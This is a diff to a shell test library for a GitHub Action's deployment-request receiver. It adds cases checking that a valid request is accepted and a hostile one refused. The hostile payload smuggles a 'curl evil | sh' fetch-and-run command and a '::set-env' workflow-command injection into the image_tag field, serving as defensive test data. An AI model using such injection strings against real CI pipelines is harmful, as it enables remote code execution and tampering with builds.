@@ -21,7 +21,9 @@
 #   prepare_run, podman_run,  run, rc, outputs_file, summary_file, env_file,
 #   run_prepared, run_action  run_env, run_flags, run_args, run_container
 #   (the receiving step)      deploy_schema, schema_path: the deployment
-#                             request's schema and where a workspace keeps it
+#                             request's schema and where a workspace keeps it;
+#                             deploy_payload, hostile_payload; holds_exactly,
+#                             nothing_written, receive_cases (the cases)
 # run_action runs `image` with the INPUT_* defaults and the runs.args of
 # `action_yml` (the checkout's action.yml unless a script points it
 # elsewhere, such as receive/action.yml).
@@ -39,7 +41,7 @@ export CONTAINERS_CONF="$root/.ci/containers.conf"
 action_yml="$root/action.yml"
 
 # The schema of the deployment request, as a receiving repository keeps it
-# (the receiving step's cases of tests/container and tests/windows).
+# (the receiving step's cases of tests/container, tests/windows and tests/portable).
 # shellcheck disable=SC2016 # $schema is a JSON Schema keyword
 deploy_schema='{
   "$schema": "https://json-schema.org/draft/2020-12/schema",
@@ -52,6 +54,10 @@ deploy_schema='{
   "additionalProperties": false
 }'
 schema_path=".github/deploy-request.schema.json"
+# A request that matches it, and one that must be refused (shell and
+# workflow-command injection in image_tag).
+deploy_payload='{"image_tag": "sha-0123abc", "environment": "staging"}'
+hostile_payload='{"image_tag": "x\"; curl evil | sh #\n::set-env name=X::y", "environment": "staging"}'
 
 # --- results --------------------------------------------------------------------
 passed=0
@@ -532,3 +538,47 @@ token_not_leaked() {
         ! grep -qF "$token" "$run/stderr" "$outputs_file" "$summary_file"
 }
 no_new_requests() { test "$(requests_so_far)" -eq "$1"; }
+
+# --- the receiving step's checks -----------------------------------------------
+# holds_exactly FILE JSON: the GITHUB_OUTPUT or GITHUB_ENV file FILE, parsed
+# (into FILE.json), holds exactly these names and values; `"payload": true`
+# in JSON stands for any payload value.
+holds_exactly() {
+    python3 "$lib_dir/check.py" outputs "$1" >"$1.json" || return 1
+    python3 - "$1.json" "$2" <<'PY'
+import json, sys
+got, want = json.load(open(sys.argv[1])), json.loads(sys.argv[2])
+if want.get("payload") is True and "payload" in got:
+    want["payload"] = got["payload"]
+if got != want:
+    sys.exit(f"  holds {got!r}, expected {want!r}")
+PY
+}
+nothing_written() { test ! -s "$outputs_file" && test ! -s "$env_file"; }
+# receive_cases [DESCRIPTION COMMAND...]: the receiving step's two cases of the
+# Windows and portable stages: a valid deployment request accepted (plus that
+# check, when given), a hostile one refused. They call the stage's own
+# `dispatch_as CASE PAYLOAD EVENT_FILE` (the sending step dispatches
+# trigger-deploy; EVENT_FILE gets the event GitHub would deliver) and
+# `receive CASE EVENT_FILE` (the receiving step for it; sets receive_before).
+receive_cases() {
+    step "case: the receiving step accepts a valid deployment request"
+    dispatch_as receive-send "$deploy_payload" "$tmp/deploy-event.json"
+    receive receive-valid "$tmp/deploy-event.json"
+    check "receive: exit code 0" test "$rc" -eq 0
+    check "receive: no ::error line" no_error_line
+    check "receive: the outputs are image_tag, environment and payload" \
+        holds_exactly "$outputs_file" '{"image_tag": "sha-0123abc", "environment": "staging", "payload": true}'
+    check "receive: GITHUB_ENV holds DEPLOY_IMAGE_TAG and DEPLOY_ENVIRONMENT only" \
+        holds_exactly "$env_file" '{"DEPLOY_IMAGE_TAG": "sha-0123abc", "DEPLOY_ENVIRONMENT": "staging"}'
+    if [ "$#" -gt 0 ]; then check "receive: $1" "${@:2}"; fi
+    check "receive: no request to the API" no_new_requests "$receive_before"
+
+    step "case: the receiving step refuses a hostile payload"
+    dispatch_as receive-send-hostile "$hostile_payload" "$tmp/hostile-event.json"
+    receive receive-hostile "$tmp/hostile-event.json"
+    check "receive-hostile: exit code 1" test "$rc" -eq 1
+    check "receive-hostile: an ::error names /image_tag" grep -q '^::error.*/image_tag' "$run/stdout"
+    check "receive-hostile: nothing written to GITHUB_OUTPUT or GITHUB_ENV" nothing_written
+    check "receive-hostile: no request to the API" no_new_requests "$receive_before"
+}
